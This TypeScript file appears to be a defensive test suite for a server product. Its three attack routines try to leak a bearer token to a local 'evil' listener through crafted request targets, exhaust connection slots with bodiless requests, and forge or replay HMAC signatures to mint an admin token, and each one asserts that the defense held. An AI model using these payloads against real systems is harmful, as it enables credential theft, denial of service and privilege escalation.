import { createHmac, randomUUID } from 'node:crypto'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import { signRequest } from '../../../packages/server/src/security/internal-requests.js'
import { type Attack, defended } from './attack.js'
import { latenciesDuring, MOST_MILLISECONDS, send, sendBytes } from './send.js'
import type { Target } from './target.js'

/** Attacks on the request that an API process sends to its controller. */
export const PROCESS_ATTACKS: readonly Attack[] = [
  {
    name: 'Absolute-form targets, `//host` and user names in the target of a request to an API process',
    defense: 'Only targets that are paths are accepted, and the origin of a forwarded request is fixed',
    run: stealKey,
  },
  {
    name: '64 slow requests of attempts that do not exist, by a client without a token',
    defense:
      'A request whose token no process has checked counts for its address, and one without a token is refused before its body',
    run: holdSlots,
  },
  {
    name: 'A signature of a controller that is missing, made up, expired or used again',
    defense: 'A signature holds for one method, path and body, once, for a minute',
    run: forgeSignatures,
  },
]

/** The attacker listens, and reads the requests of an API process. */
async function stealKey(target: Target): Promise<string> {
  const { api, controller, secret } = await target.processes()
  const stolen: string[] = []
  const listener = createServer((request, response) => {
    stolen.push(`${request.method} ${request.url} ${Object.keys(request.headers).join(' ')}`)
    response.end('{}')
  })
  listener.on('upgrade', (request, socket) => {
    stolen.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done))
  const { port } = listener.address() as { port: number }
  const host = new URL(api).host
  const evil = `127.0.0.1:${port}`
  const token = `authorization: Bearer ${secret}`
  const upgrade = [
    'connection: Upgrade',
    'upgrade: websocket',
    'sec-websocket-version: 13',
    'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==',
  ]
  const requests: readonly (readonly string[])[] = [
    // Requests that an API process forwards: whoever shows any token of an attempt, or a right token of a user.
    [`GET http://${evil}/api/exchange/${randomUUID()}/1 HTTP/1.1`, 'authorization: Bearer x'],
    [`GET http://user:word@${evil}/api/nodes HTTP/1.1`, token],
    [`GET //${evil}/api/nodes HTTP/1.1`, token],
    [`GET /\\${evil}/api/nodes HTTP/1.1`, token],
    [`GET http://${evil}/ws/service HTTP/1.1`, token, ...upgrade],
    [`GET http://${evil}/api/system/health HTTP/1.1`, `host: ${evil}`],
  ]
  const statuses: (number | null)[] = []
  try {
    for (const process of [api, controller])
      for (const [line = '', ...headers] of requests)
        statuses.push(await sendBytes(process, [line, `host: ${host}`, ...headers]))
  } finally {
    listener.closeAllConnections()
    listener.close()
  }
  defended(stolen.length === 0, `the attacker received ${stolen.join('; ')}`)
  defended(
    statuses.every((status) => status === null || status >= 400),
    `statuses ${statuses.join(', ')}`,
  )
  return `nothing reached the attacker; statuses ${[...new Set(statuses)].join(', ')}`
}

/** Requests whose body never arrives, each for another attempt. */
async function holdSlots(target: Target): Promise<string> {
  const { api, secret } = await target.processes()
  const { hostname, port } = new URL(api)
  const head = (authorization: readonly string[]) =>
    [
      `POST /api/exchange/${randomUUID()}/1/heartbeat HTTP/1.1`,
      ...[`host: ${hostname}`, 'content-type: application/json', 'content-length: 1000'],
      ...authorization,
    ].join('\r\n')
  const held = Array.from({ length: 128 }, () => connect(Number(port), hostname))
  try {
    for (const [index, socket] of held.entries()) {
      socket.on('error', () => undefined)
      socket.write(`${head(index % 2 ? [] : ['authorization: Bearer x'])}\r\n\r\n`)
    }
    const headers = { authorization: `Bearer ${secret}` }
    const latencies = await latenciesDuring(
      '/api/training',
      { url: api, headers },
      new Promise((done) => setTimeout(done, 2000)),
    )
    const longest = Math.round(latencies.at(-1) ?? 0)
    defended(longest <= MOST_MILLISECONDS, `another request took ${longest} ms`)
    return `${held.length} requests are held, other requests up to ${longest} ms`
  } finally {
    for (const socket of held) socket.destroy()
  }
}

async function forgeSignatures(target: Target): Promise<string> {
  const { controller, internalKey } = await target.processes()
  defended(internalKey !== '', 'the attack found no controller')
  const admin = { user: 'mal', role: 'admin' as const, token_id: null, identifiers: true }
  const caller = { actor: admin, address: '127.0.0.1' }
  const body = Buffer.from(JSON.stringify({ user: 'mal', role: 'admin', name: 'forged' }))
  const signed = (key: string) =>
    signRequest(key, { method: 'POST', target: '/api/tokens', caller, body }).headers
  const create = async (headers: Record<string, string>, content: Buffer = body, path = '/api/tokens') => {
    const { status, json } = await send(controller, 'POST', path, {
      headers: { 'content-type': 'application/json', ...headers },
      body: content,
    })
    return status === 200 && typeof json.secret === 'string' ? 200 : status
  }
  const good = signed(internalKey)
  const first = await create(good)
  if (first !== 200)
    throw new Error(`a right signature was refused with ${first}, so this attack shows nothing`)
  const { 'x-medloom-signature': _, ...unsigned } = signed(internalKey)
  const other = Buffer.from(JSON.stringify({ user: 'mal', role: 'admin', name: 'another' }))
  const statuses = {
    'used again': await create(good),
    unsigned: await create(unsigned),
    'made up': await create(signed('guessed')),
    expired: await create(expired(signed(internalKey), internalKey)),
    'another body': await create(signed(internalKey), other),
    'another path': await create(signed(internalKey), body, '/api/tokens?x=1'),
  }
  for (const [what, status] of Object.entries(statuses)) defended(status === 401, `${what}: ${status}`)
  return `${Object.keys(statuses).join(', ')}: 401 each`
}

/** The same signature, created two minutes ago. */
function expired(headers: Record<string, string>, key: string): Record<string, string> {
  const [time = '', unique, digest = ''] = (headers['x-medloom-signature'] ?? '').split('.')
  const id = `${Number(time) - 120_000}.${unique}`
  const fields = [id, 'POST', '/api/tokens', headers['x-medloom-caller'] ?? '', digest]
  const mac = createHmac('sha256', key).update(fields.join('\n')).digest('base64url')
  return { ...headers, 'x-medloom-signature': `${id}.${digest}.${mac}` }
}
